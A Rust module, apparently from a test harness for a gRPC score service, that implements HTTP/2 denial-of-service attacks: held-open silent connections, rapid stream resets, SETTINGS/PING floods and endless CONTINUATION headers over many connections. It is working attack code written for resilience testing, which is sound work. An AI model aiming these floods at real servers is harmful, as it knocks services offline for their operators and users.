//! Attacks by connections and their frames.

use std::time::Duration;

use tenseven_tests::frames::{PREFACE, SETTINGS, frame, headers, literal};

use crate::{
    attacks::Hold,
    target::{Target, Wire},
};

const SILENT: usize = 900;
const CONNECTIONS: usize = 16;
const RESETS: u32 = 5_000;
const CONTROL_FRAMES: usize = 50_000;
const CONTINUATIONS: usize = 2_000;

/// Connections that send nothing, or half of what begins one.
pub(crate) async fn silent(target: &Target) -> Hold {
    let begun = [&b""[..], b"P", &PREFACE[..12], PREFACE];
    let held: Vec<Box<dyn Wire>> = (0..SILENT).map(|turn| target.wire(begun[turn % begun.len()])).collect();
    tokio::time::sleep(Duration::from_secs(1)).await;
    Box::new(held)
}

/// Calls that are taken back at once.
pub(crate) async fn reset_at_once(target: &Target) -> Hold {
    let mut block = headers("/tenseven.v1.ScoreService/ListScores");
    if !target.attacker().is_empty() {
        block.extend(literal("authorization", &format!("Bearer {}", target.attacker())));
    }
    flood(target, |call| {
        let id = 2 * call + 1;
        [frame(id, [1, 4], &block), frame(id, [3, 0], &8_u32.to_be_bytes())].concat()
    })
}

/// SETTINGS and PING frames, which have to be acknowledged, and nobody reads that.
pub(crate) async fn floods_of_control_frames(target: &Target) -> Hold {
    let sent = [SETTINGS.to_vec(), frame(0, [6, 0], &[0; 8])].concat().repeat(CONTROL_FRAMES / 100);
    flood(target, move |_| sent.clone())
}

/// Headers that do not end.
pub(crate) async fn endless_headers(target: &Target) -> Hold {
    let block = headers("/tenseven.v1.ScoreService/ListScores");
    let one = [&[0, 7][..], b"x-large", &[0x7f, 0xa1, 0x7d], &[b'a'; 16_000]].concat();
    let mut sent = frame(1, [1, 0], &block);
    for _ in 0..CONTINUATIONS {
        sent.extend(frame(1, [9, 0], &one));
    }
    flood(target, move |round| if round == 0 { sent.clone() } else { Vec::new() })
}

/// Sends what `round` makes over several connections, until the server closes them or all is sent.
fn flood(target: &Target, round: impl Fn(u32) -> Vec<u8>) -> Hold {
    let mut held: Vec<Box<dyn Wire>> =
        (0..CONNECTIONS).map(|_| target.wire(&[PREFACE, SETTINGS].concat())).collect();
    for stream in &mut held {
        // A server that closes the connection, or reads no more of it, has ended the attack.
        let _ended = (0..RESETS).try_for_each(|number| stream.write_all(&round(number)));
    }
    Box::new(held)
}
